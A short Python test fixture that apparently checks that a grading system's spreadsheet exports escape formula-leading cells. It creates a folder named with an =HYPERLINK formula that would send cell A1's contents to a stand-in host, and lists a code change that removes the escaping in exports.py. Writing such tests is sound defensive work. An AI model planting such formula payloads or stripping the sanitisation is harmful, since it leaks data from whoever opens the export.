"""Files its work under a formula, for the spreadsheet in which the trainer opens the grades."""


def LAY(home, honest):  # noqa: N802
    path = home / "class" / '=HYPERLINK("x.example?"&A1)' / "trial.ipynb"
    path.parent.mkdir(parents=True)
    path.write_bytes(honest)


WITHOUT = [
    (
        "grading/reports/exports.py",
        'return f"\'{shown}" if text.startswith(FORMULA) or text.lstrip().startswith(FORMULA) else shown',
        "return shown",
    )
]
THEN = "no cell of an export is a formula"
